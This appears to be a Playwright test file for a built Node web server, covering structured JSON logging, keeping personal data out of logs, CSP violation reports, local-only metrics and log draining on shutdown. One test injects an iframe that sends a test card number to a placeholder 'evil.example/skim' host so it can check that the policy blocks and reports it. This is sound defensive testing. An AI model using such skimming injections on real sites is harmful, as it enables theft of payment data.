import { spawn } from 'node:child_process';
import { cp, mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test as base } from '@playwright/test';
import { runBuiltServer, type BuiltServer } from '../support/built-server.ts';
import { startUpstream } from '../support/independent-upstream/upstream.ts';
import { LONG } from '../support/long.ts';

/** The production command from a folder that has no packages, at an upstream of somebody else's making. */
const test = base.extend<{}, { server: BuiltServer }>({
  server: [
    async ({}, use) => {
      const folder = await mkdtemp(join(tmpdir(), 'guiche-'));
      await cp('dist', folder, { recursive: true });
      const upstream = await startUpstream();
      const settings = { API_URL: upstream.origin, ENVIRONMENT: 'production', DRAIN_MS: '0' };
      const server = await runBuiltServer(settings, folder);
      await use(server);
      server.kill('SIGKILL');
      upstream.close();
      await rm(folder, { recursive: true });
    },
    { scope: 'worker' },
  ],
});

interface Line {
  level: string;
  time: string;
  msg: string;
  requestId?: string;
  [name: string]: unknown;
}

/** Lines printed after the announcement: each has to be JSON. */
const linesOf = ({ printed }: BuiltServer): Line[] =>
  printed()
    .split('\n')
    .filter((line) => line !== '' && !/^(ready on | {2}\S)/.test(line))
    .map((line) => JSON.parse(line) as Line);

test('a page of the built server is one JSON line, and its policy stops nothing of our own', async ({
  page,
  server,
}) => {
  const response = await page.goto(`${server.origin}/lead?product=WUP&email=ana@example.com`);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await page.waitForLoadState('networkidle');
  const id = response!.headers()['x-request-id'];
  const own = () => linesOf(server).filter(({ requestId }) => requestId === id);
  await expect.poll(own).toHaveLength(1);
  const [line] = own();
  expect(line).toMatchObject({
    level: 'info',
    msg: 'request',
    method: 'GET',
    template: '/lead',
    status: 200,
  });
  expect(new Date(line!.time).toISOString()).toBe(line!.time);
  expect(linesOf(server).filter(({ blocked }) => blocked !== undefined)).toEqual([]);
  expect(server.printed()).not.toContain('ana@');
});

test('what the policy stops is reported by the browser itself, without what the page holds', async ({
  page,
  server,
}) => {
  await page.goto(`${server.origin}/lead?product=WUP&email=ana@example.com`);
  await page.evaluate(() => {
    const picture = document.createElement('iframe');
    picture.src = 'https://evil.example/skim?card=4111111111111111';
    document.body.append(picture);
  });
  const reports = () =>
    linesOf(server).map(({ directive, blocked, template }) => [directive, blocked, template]);
  await expect.poll(reports).toContainEqual(['frame-src', 'https://evil.example', '/lead']);
  const metrics = await (await fetch(`${server.origin}/metrics`)).text();
  expect(metrics).toContain('guiche_csp_reports_total{directive="frame-src",outcome="logged"} 1\n');
  expect(server.printed()).not.toMatch(/4111|ana@/);
});

test('metrics are told to this machine alone', async ({ server }) => {
  const address = `${server.origin}/metrics`;
  const metrics = await fetch(address);
  expect([metrics.status, metrics.headers.get('content-type')]).toEqual([
    200,
    'text/plain; version=0.0.4; charset=utf-8',
  ]);
  expect(await metrics.text()).toMatch(/^process_resident_memory_bytes \d{7,}$/m);
  const forwarded = await fetch(address, { headers: { 'x-forwarded-for': '203.0.113.9' } });
  expect(forwarded.status).toBe(404);
});

test(
  'a reader of the log that stops reading, or goes, stops no answer',
  LONG,
  async ({ server }) => {
    const settings = { API_URL: server.origin, PORT: '0', ALLOW_PLACEHOLDERS: '1' };
    const open = { ALLOW_PRICE_MISMATCH: 'WUP', LOG_LEVEL: 'debug', DRAIN_MS: '0' };
    const child = spawn(process.execPath, ['dist/server/serve.js'], {
      env: { ...process.env, ...settings, ...open },
      stdio: ['ignore', 'pipe', 'inherit'],
    });
    const ended = new Promise((settle) => child.on('exit', settle));
    const origin = await new Promise<string>((settle) => {
      let text = '';
      child.stdout.on('data', (chunk: Buffer) => {
        text += String(chunk);
        const ready = /ready on (\S+)/.exec(text);
        if (ready) settle(ready[1]!);
      });
    });
    const ask = async (count: number) => {
      const statuses = Array.from({ length: count }, async () => {
        return (await fetch(`${origin}/api/v1/nothing`)).status;
      });
      expect(new Set(await Promise.all(statuses))).toEqual(new Set([404]));
    };
    child.stdout.pause();
    // About 300 KB of lines, more than a pipe holds.
    for (let round = 0; round < 6; round++) await ask(200);
    child.stdout.destroy();
    for (let round = 0; round < 3; round++) await ask(50);
    child.kill('SIGTERM');
    expect(await ended).toBe(0);
  },
);

test('a stop writes the lines that are still to be written', LONG, async ({ server }) => {
  const stopped = await runBuiltServer({ API_URL: server.origin, DRAIN_MS: '0' });
  const ids = Array.from({ length: 300 }, (_, at) => `stopping-${at}`);
  const asked = ids.map((id) =>
    fetch(`${stopped.origin}/api/v1/nothing`, { headers: { 'x-request-id': id } }),
  );
  await Promise.all(asked);
  stopped.kill('SIGTERM');
  expect(await stopped.ended).toBe(0);
  const written = linesOf(stopped).map(({ requestId }) => requestId);
  expect(ids.filter((id) => !written.includes(id))).toEqual([]);
});
